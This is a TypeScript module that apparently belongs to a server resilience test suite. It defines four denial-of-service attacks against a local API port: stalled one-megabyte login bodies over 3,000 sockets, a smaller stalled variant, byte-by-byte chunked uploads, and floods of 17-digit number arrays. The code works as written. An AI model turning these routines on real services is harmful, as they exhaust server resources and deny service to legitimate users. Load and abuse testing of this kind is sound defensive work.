import type { Socket } from 'node:net';
import { setImmediate, setTimeout } from 'node:timers/promises';
import { account } from './accounts.ts';
import { ask, tally } from './ask.ts';
import { type Attack, HOLD_MS } from './attack.ts';
import { held, silentSocket } from './silentSockets.ts';

const MEGABYTE = 1_048_576;

/** Three thousand anonymous logins send a body of a megabyte without its last byte. */
const stalledBodies: Attack = {
  name: 'stalled bodies',
  isLimited: true,
  others: 'log in',
  async run(port) {
    const head = `POST /api/users/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${MEGABYTE}\r\n\r\n`;
    const almost = Buffer.concat([Buffer.from(head), Buffer.alloc(MEGABYTE - 1, 32)]);
    const sockets: Socket[] = [];
    for (let at = 0; at < 3_000; at += 1) {
      sockets.push(silentSocket(port, almost));
      if (at % 50 === 49) await setTimeout(20);
    }
    return held(sockets, HOLD_MS);
  },
};

/** The same with bodies that are small enough for the route. */
const smallStalledBodies: Attack = {
  name: 'stalled bodies, small',
  isLimited: true,
  others: 'log in',
  async run(port) {
    const head = `POST /api/users/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 16000\r\n\r\n`;
    const almost = Buffer.concat([Buffer.from(head), Buffer.alloc(15_999, 32)]);
    const sockets: Socket[] = [];
    for (let at = 0; at < 3_000; at += 1) {
      sockets.push(silentSocket(port, almost));
      if (at % 50 === 49) await setTimeout(20);
    }
    return held(sockets, HOLD_MS);
  },
};

/** Twenty connections with a token send a megabyte in chunks of one byte, without the last one. */
const byteByByte: Attack = {
  name: 'chunks of a byte',
  isLimited: true,
  others: 'read',
  prepare: async (port) => ({ token: (await account(port, 'attacker@example.org')).token }),
  async run(port, { token }) {
    const head = `POST /api/algos HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${String(token)}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`;
    const chunks = '1\r\n \r\n'.repeat(10_000);
    const sockets = Array.from({ length: 20 }, () => silentSocket(port, head));
    for (let sent = 0; sent < MEGABYTE - 10_000; sent += 10_000) {
      for (const socket of sockets) if (socket.writable) socket.write(chunks);
      await setImmediate();
    }
    return held(sockets, HOLD_MS);
  },
};

/** A hundred creations at the same time, each with a megabyte of numbers that a double cannot hold exactly. */
const heavyNumbers: Attack = {
  name: 'numbers of 17 digits',
  isLimited: true,
  others: 'read',
  async prepare(port) {
    const { id, token } = await account(port, 'attacker@example.org');
    return { id, token };
  },
  async run(port, { id, token }) {
    const numbers = `[${'12345678901234567,'.repeat(58_000)}1]`;
    const text = `{"ownerId":${String(id)},"nom":"Numbers","sourceCode":${numbers}}`;
    const question = { path: '/api/algos', text, token: String(token) };
    return tally(await Promise.all(Array.from({ length: 100 }, () => ask(port, question))));
  },
};

export const BODIES: readonly Attack[] = [stalledBodies, smallStalledBodies, byteByByte, heavyNumbers];
